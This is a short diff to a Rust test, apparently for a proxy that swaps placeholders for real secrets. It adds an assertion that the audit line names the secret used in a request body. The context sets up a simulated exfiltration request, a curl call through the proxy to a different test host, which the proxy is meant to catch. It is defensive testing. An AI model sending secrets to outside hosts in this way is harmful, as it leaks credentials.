@@ -241,6 +241,13 @@ fn body_secrets_are_swapped_in_bodies_and_trip_elsewhere() {
         "the echoed real value is scrubbed back to the placeholder"
     );
 
+    let line = proxy.audit_line_where("for /echo/body", |l| l["path"] == "/echo/body");
+    assert_eq!(
+        line["secrets"],
+        serde_json::json!(["LLM_KEY"]),
+        "the audit line names the secret swapped in the body: {line}"
+    );
+
     let exfil = format!("https://other.test:{}/echo/paste", upstream.port());
     let response = curl(
         &proxy,
